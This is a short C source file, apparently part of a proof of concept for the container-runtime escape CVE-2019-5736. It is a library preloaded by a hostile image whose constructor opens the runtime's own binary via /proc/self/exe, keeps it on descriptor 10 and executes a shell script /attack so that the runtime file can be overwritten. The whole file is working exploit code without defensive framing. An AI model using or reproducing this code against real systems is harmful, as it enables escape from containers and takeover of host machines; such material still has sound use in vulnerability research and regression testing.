/*
 * A library that a hostile image has preloaded into whatever is executed there. When that is the
 * runtime itself, /proc/self/exe is the runtime's file, which is kept open on descriptor 10 for the
 * shell script /attack (CVE-2019-5736). What it needs comes from the image's C library.
 */
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void take(void)
{
	static char shell[] = "/bin/sh", script[] = "/attack";
	char *const argv[] = {shell, script, NULL};
	char *const envp[] = {NULL};
	int fd = open("/proc/self/exe", O_RDONLY);

	if (dup2(fd, 10) == 10)
		execve(shell, argv, envp);
}
